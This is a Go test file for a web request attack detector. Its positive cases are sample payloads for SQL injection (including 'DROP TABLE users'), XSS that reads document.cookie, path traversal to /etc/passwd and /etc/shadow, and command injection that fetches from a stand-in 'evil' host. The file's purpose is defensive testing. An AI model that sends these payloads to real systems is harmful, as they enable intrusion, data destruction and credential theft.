package edge

import "testing"

// The pattern lists are versioned; these cases pin representative positive
// and negative strings per family.

func TestDetectSQLInjection(t *testing.T) {
	positives := []string{
		"/api/login?x=1 UNION SELECT * FROM users--",
		"/q?id=1%20union%20select%20password%20from%20accounts",
		"/q?id=1' OR '1'=1",
		"/q?name=x'; DROP TABLE users",
		"/q?id=1 AND 1=1--",
		"/q?id=(select sleep(5))x from dual",
		"/q?id=1;shutdown",
	}
	for _, uri := range positives {
		if got := DetectAttack(uri, "", nil); got != FamilySQLInjection {
			t.Errorf("DetectAttack(%q) = %v, want sql_injection", uri, got)
		}
	}

	negatives := []string{
		"/api/union-station/timetable",
		"/products?category=select-items",
		"/docs/insert-image-guide",
		"/search?q=drop+shipping",
	}
	for _, uri := range negatives {
		if got := DetectAttack(uri, "", nil); got != FamilyNone {
			t.Errorf("DetectAttack(%q) = %v, want none", uri, got)
		}
	}
}

func TestDetectXSS(t *testing.T) {
	positives := []string{
		"/comment?text=<script>alert(1)</script>",
		"/comment?text=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
		"/p?x=<img src=x onerror=alert(1)>",
		"/p?x=javascript:alert(1)",
		"/p?x=<iframe src=//evil>",
	}
	for _, uri := range positives {
		if got := DetectAttack(uri, "", nil); got != FamilyXSS {
			t.Errorf("DetectAttack(%q) = %v, want xss", uri, got)
		}
	}

	if got := DetectAttack("/articles/javascript-basics", "", nil); got != FamilyNone {
		t.Errorf("benign javascript path flagged as %v", got)
	}
}

func TestDetectPathTraversal(t *testing.T) {
	positives := []string{
		"/static/../../etc/passwd",
		"/files?name=..%2f..%2fetc%2fshadow",
		"/dl?f=%2e%2e%2fboot.ini",
		"/x/..%5cwindows",
	}
	for _, uri := range positives {
		if got := DetectAttack(uri, "", nil); got != FamilyPathTraversal {
			t.Errorf("DetectAttack(%q) = %v, want path_traversal", uri, got)
		}
	}

	// Traversal is scanned against the URI only; a body mentioning dot-dot
	// sequences is not traversal.
	if got := DetectAttack("/upload", "see ../README for details", nil); got != FamilyNone {
		t.Errorf("body-only traversal text flagged as %v", got)
	}
}

func TestDetectCommandInjection(t *testing.T) {
	positives := []string{
		"/run?cmd=abc;cat+secrets.txt",
		"/run?cmd=x|whoami",
		"/run?cmd=a&&wget http://evil/sh",
		"/run?cmd=`id`",
		"/run?cmd=$(curl evil)",
		"/run?cmd=/bin/bash -c x",
	}
	for _, uri := range positives {
		if got := DetectAttack(uri, "", nil); got != FamilyCommandInjection {
			t.Errorf("DetectAttack(%q) = %v, want command_injection", uri, got)
		}
	}

	negatives := []string{
		"/catalog/list",
		"/shipping?speed=fast",
	}
	for _, uri := range negatives {
		if got := DetectAttack(uri, "", nil); got != FamilyNone {
			t.Errorf("DetectAttack(%q) = %v, want none", uri, got)
		}
	}
}

func TestDetectOrderFirstMatchWins(t *testing.T) {
	// Contains both SQL and XSS fragments; SQL is evaluated first.
	uri := "/q?id=1 union select '<script>'"
	if got := DetectAttack(uri, "", nil); got != FamilySQLInjection {
		t.Errorf("DetectAttack = %v, want sql_injection (first family)", got)
	}
}

func TestDetectScanSurfaceIncludesBodyAndHeaders(t *testing.T) {
	if got := DetectAttack("/submit", `{"payload":"<script>alert(1)</script>"}`, nil); got != FamilyXSS {
		t.Errorf("body scan = %v, want xss", got)
	}
	if got := DetectAttack("/submit", "{}", []string{"Mozilla/5.0", "1 union select x from y"}); got != FamilySQLInjection {
		t.Errorf("header scan = %v, want sql_injection", got)
	}
	if got := DetectAttack("/submit", "{}", []string{"Mozilla/5.0 (X11; Linux x86_64)", "gzip, deflate", "application/json"}); got != FamilyNone {
		t.Errorf("benign request flagged as %v", got)
	}
}
